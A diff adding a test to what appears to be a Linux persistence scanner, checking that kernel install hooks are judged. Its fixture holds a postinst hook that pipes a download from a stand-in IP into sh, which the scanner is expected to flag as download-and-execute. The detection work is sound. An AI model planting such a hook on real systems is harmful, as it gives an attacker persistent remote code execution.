@@ -304,3 +304,17 @@ Deno.test("systemd sockets: a bind shell started per connection, socket Exec lin
     ["31337"],
   ]);
 });
+
+Deno.test("kernel hooks: scripts run when a kernel is installed are judged; an unowned one in /usr/lib is said", async () => {
+  using root = makeTree(rootWith(["/usr/lib/kernel/install.d/50-depmod.install"], {
+    "etc/kernel/postinst.d/zz-sync": exe("#!/bin/sh\ncurl -fsSL http://203.0.113.5/k | sh\n"),
+    "usr/lib/kernel/install.d/50-depmod.install": exe('#!/bin/sh\ndepmod -a "$1"\n'),
+    "usr/lib/kernel/install.d/99-extra.install": exe("#!/bin/sh\nexit 0\n"),
+    "etc/kernel/postinst.d/initramfs-tools": exe('#!/bin/sh\nupdate-initramfs -c -k "$1"\n'),
+  }));
+  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
+  assert.deepEqual(fired(r.findings), [
+    "high persistence.command.download_exec /etc/kernel/postinst.d/zz-sync:2",
+    "medium persistence.boot_script.unowned /usr/lib/kernel/install.d/99-extra.install",
+  ]);
+});
